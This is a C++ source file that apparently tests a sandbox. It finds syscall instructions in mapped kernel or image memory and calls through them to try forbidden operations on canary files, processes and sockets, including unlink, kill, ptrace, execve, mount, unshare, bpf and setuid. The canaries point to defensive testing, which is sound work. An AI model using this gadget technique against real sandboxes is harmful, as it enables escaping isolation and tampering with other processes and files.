// Jumps at system call instructions inside the kernel half, with registers of the guest's choice.
#include <linux/sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

#include "attack.h"

using namespace attack;

namespace {

constexpr uintptr_t kCoarseStep = 2 << 20;
constexpr size_t kFinePages = 16384;
constexpr size_t kMostGadgets = 48;

/// Addresses of `syscall` instructions in the readable pages from `begin` on.
void find_gadgets(uintptr_t begin, size_t pages, std::vector<uintptr_t>& gadgets) {
  for (uintptr_t page = begin; page < begin + pages * kPage && page < kWindowEnd; page += kPage) {
    if (!is_readable(page) || !is_readable(page + kPage - 1)) continue;
    const auto* bytes = reinterpret_cast<const unsigned char*>(page);
    for (size_t i = 0; i + 1 < kPage && gadgets.size() < kMostGadgets; ++i) {
      if (bytes[i] == 0x0f && bytes[i + 1] == 0x05) gadgets.push_back(page + i);
    }
  }
}

std::vector<uintptr_t> all_gadgets() {
  std::vector<uintptr_t> gadgets;
  find_gadgets(kImage, kFinePages, gadgets);
  for (uintptr_t at = kWindowBegin; at < kWindowEnd && gadgets.size() < kMostGadgets;
       at += kCoarseStep) {
    if (is_readable(at)) find_gadgets(at, kCoarseStep / kPage, gadgets);
  }
  return gadgets;
}

long call_at(uintptr_t gadget, long number, long a = 0, long b = 0, long c = 0, long d = 0,
             long e = 0, long f = 0) {
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  long result = number;
  // The instruction behind the call is often a return; the stack leads it back here.
  asm volatile(
      "sub $256, %%rsp\n\t"
      "call *%[gadget]\n\t"
      "add $256, %%rsp"
      : "+a"(result), "+r"(r10), "+r"(r8), "+r"(r9)
      : [gadget] "b"(gadget), "D"(a), "S"(b), "d"(c)
      : "rcx", "r11", "r12", "r13", "r14", "r15", "memory", "cc");
  return result;
}

template <typename T>
long argument(T* pointer) {
  return reinterpret_cast<long>(pointer);
}

bool connects(uintptr_t gadget, const Address& address, int type) {
  const long fd = call_at(gadget, SYS_socket, AF_UNIX, type);
  return fd >= 0 && call_at(gadget, SYS_connect, fd, argument(&address.value), address.size) == 0;
}

void attack_from(uintptr_t gadget) {
  char name[32];
  std::snprintf(name, sizeof name, "%lx ", static_cast<unsigned long>(gadget));
  const auto try_call = [&](const char* what, auto body) {
    attempt(std::string(name) + what, body);
  };
  const char* secret = canaries.secret.c_str();

  try_call("open", [=] { return call_at(gadget, SYS_open, argument(secret), O_RDWR) >= 0; });
  try_call("openat",
           [=] { return call_at(gadget, SYS_openat, AT_FDCWD, argument(secret), O_RDONLY) >= 0; });
  try_call("openat2", [=] {
    const uint64_t how[3] = {O_RDONLY, 0, 0};
    return call_at(gadget, SYS_openat2, AT_FDCWD, argument(secret), argument(how), sizeof how) >= 0;
  });
  try_call("unlink", [=] { return call_at(gadget, SYS_unlink, argument(secret)) == 0; });
  try_call("truncate", [=] { return call_at(gadget, SYS_truncate, argument(secret), 0) == 0; });
  try_call("chmod", [=] { return call_at(gadget, SYS_chmod, argument(secret), 0777) == 0; });
  try_call("fchmodat",
           [=] { return call_at(gadget, SYS_fchmodat, AT_FDCWD, argument(secret), 0777) == 0; });
  try_call("fchmod of O_PATH", [=] {
    const long fd = call_at(gadget, SYS_openat, AT_FDCWD, argument(secret), O_PATH);
    return fd >= 0 && call_at(gadget, SYS_fchmod, fd, 0777) == 0;
  });
  try_call("utimensat",
           [=] { return call_at(gadget, SYS_utimensat, AT_FDCWD, argument(secret), 0, 0) == 0; });
  try_call("utimensat of O_PATH", [=] {
    const long fd = call_at(gadget, SYS_openat, AT_FDCWD, argument(secret), O_PATH);
    return fd >= 0 && call_at(gadget, SYS_utimensat, fd, 0, 0, 0) == 0;
  });
  try_call("setxattr", [=] {
    return call_at(gadget, SYS_setxattr, argument(secret), argument("user.attack"), argument("x"),
                   1, 0) == 0;
  });
  try_call("kill", [=] { return call_at(gadget, SYS_kill, canaries.pid, SIGKILL) == 0; });
  try_call("tgkill",
           [=] { return call_at(gadget, SYS_tgkill, canaries.pid, canaries.pid, SIGKILL) == 0; });
  try_call("pidfd", [=] {
    const long fd = call_at(gadget, SYS_pidfd_open, canaries.pid, 0);
    return fd >= 0 && call_at(gadget, SYS_pidfd_send_signal, fd, SIGKILL) == 0;
  });
  try_call("ptrace", [=] { return call_at(gadget, SYS_ptrace, PTRACE_SEIZE, canaries.pid) == 0; });
  try_call("process_vm_readv", [=] {
    char buffer[8];
    iovec local = {buffer, sizeof buffer},
          remote = {reinterpret_cast<void*>(0x400000), sizeof buffer};
    return call_at(gadget, SYS_process_vm_readv, canaries.pid, argument(&local), 1,
                   argument(&remote), 1) > 0;
  });
  try_call("execve", [=] {
    const char* arguments[] = {"sh", "-c", "exit 42", nullptr};
    call_at(gadget, SYS_execve, argument("/bin/sh"), argument(arguments), 0);
    return false;
  });
  try_call("connect abstract",
           [=] { return connects(gadget, address_of(canaries.abstract, true), SOCK_STREAM); });
  try_call("connect path",
           [=] { return connects(gadget, address_of(canaries.socket, false), SOCK_STREAM); });
  try_call("mount", [=] {
    return call_at(gadget, SYS_mount, argument("none"), argument("/tmp"), argument("tmpfs"), 0,
                   0) == 0;
  });
  try_call("chroot", [=] { return call_at(gadget, SYS_chroot, argument("/")) == 0; });
  try_call("unshare", [=] { return call_at(gadget, SYS_unshare, CLONE_NEWUSER) == 0; });
  try_call("bpf", [=] {
    char attributes[128] = {2};
    return call_at(gadget, SYS_bpf, 0, argument(attributes), sizeof attributes) >= 0;
  });
  try_call("io_uring_setup", [=] {
    char parameters[128] = {};
    return call_at(gadget, SYS_io_uring_setup, 1, argument(parameters)) >= 0;
  });
  try_call("perf_event_open", [=] {
    char attributes[128] = {};
    return call_at(gadget, SYS_perf_event_open, argument(attributes), 0, -1, -1, 0) >= 0;
  });
  try_call("keyctl", [=] { return call_at(gadget, SYS_keyctl, 0, -3, 1) >= 0; });
  try_call("setuid", [=] { return call_at(gadget, SYS_setuid, 0) == 0; });
}

}  // namespace

int main(int argc, char** argv) {
  parse(argc, argv);
  catch_faults();
  const std::vector<uintptr_t> gadgets = all_gadgets();
  std::printf("%zu system call instructions found\n", gadgets.size());
  for (uintptr_t gadget : gadgets) attack_from(gadget);
  return report();
}
